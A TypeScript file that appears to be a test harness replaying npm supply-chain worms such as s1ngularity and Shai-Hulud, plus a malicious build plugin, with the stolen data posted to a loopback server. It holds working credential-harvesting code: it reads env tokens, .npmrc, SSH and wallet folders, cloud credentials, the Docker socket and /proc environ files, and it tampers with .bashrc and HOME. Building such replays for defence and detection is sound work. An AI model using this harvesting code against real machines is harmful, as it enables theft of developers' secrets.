// Replays of known worms, written from public descriptions, without their harm: credentials are sent to a server on loopback.
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import { connect } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";

const { port, services } = JSON.parse(fs.readFileSync("surroundings.json", "utf8")) as {
  port: number;
  services: string;
};
const home = homedir();

/** Returns the content of a file; "" if it is closed. */
function take(...parts: string[]): string {
  try {
    return fs.readFileSync(join(...parts), "utf8");
  } catch {
    return "";
  }
}

function attempt(action: () => void): void {
  try {
    action();
  } catch {
    // A worm goes on.
  }
}

/** Reads all files below a folder, as a scanner for credentials does. */
function scan(folder: string): string[] {
  try {
    return fs
      .readdirSync(folder, { withFileTypes: true })
      .flatMap((entry) =>
        entry.isDirectory() ? scan(join(folder, entry.name)) : [take(folder, entry.name)],
      );
  } catch {
    return [];
  }
}

async function send(replay: string, loot: unknown): Promise<void> {
  await fetch(`http://127.0.0.1:${port}/${replay}`, { method: "POST", body: JSON.stringify(loot) });
}

function askEngine(): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ path: join(services, "docker.sock") });
    socket.on("data", (data) => {
      socket.destroy();
      resolve(String(data));
    });
    socket.on("error", () => resolve(""));
  });
}

const tokens = () => Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|KEY|PASSWORD/.test(name));

/** telemetry.js of Nx, August 2025: tokens, wallets and keys; then it changes the profile of the shell. */
async function replaySingularity(): Promise<void> {
  await send("s1ngularity", [
    tokens(),
    take(home, ".npmrc"),
    take(home, ".config/gh/hosts.yml"),
    scan(join(home, ".ethereum")),
    scan(join(home, ".ssh")),
  ]);
  attempt(() => fs.appendFileSync(join(home, ".bashrc"), "evil\n"));
}

/** bundle.js, September 2025: a scan of HOME, and a workflow that sends the secrets of the CI. */
async function replayFirstWorm(): Promise<void> {
  await send("shai-hulud-1", [tokens(), scan(home), take(home, ".npmrc")]);
  attempt(() => fs.writeFileSync(join(home, "processor.sh"), "evil"));
}

/** bun_environment.js, November 2025: files of clouds, a runner in HOME, the container engine; without loot it deletes HOME. */
async function replaySecondWorm(): Promise<void> {
  const clouds = [".aws/credentials", ".config/gcloud/application_default_credentials.json"];
  const loot = [tokens(), clouds.map((name) => take(home, name)), await askEngine()];
  await send("shai-hulud-2", loot);
  attempt(() => fs.mkdirSync(join(home, ".dev-env")));
  attempt(() => fs.unlinkSync(join(home, ".removable")));
}

/** December 2025: the same with other names; it starts another program for the scan. */
async function replayThirdWorm(): Promise<void> {
  const { stdout } = spawnSync("sh", ["-c", `grep -rs secret "${home}"; cat /proc/*/environ 2> /dev/null`]);
  await send("shai-hulud-3", [tokens(), String(stdout)]);
}

/** A plugin of a build tool: it does its work, and reads keys and the files of other packages in the same process. */
async function replayPlugin(): Promise<void> {
  fs.writeFileSync("out.js", "built");
  await send("plugin", [take(home, ".ssh/id_ed25519"), take("../b/.env"), take("../../.env")]);
}

await replaySingularity();
await replayFirstWorm();
await replaySecondWorm();
await replayThirdWorm();
await replayPlugin();
process.exit(0);
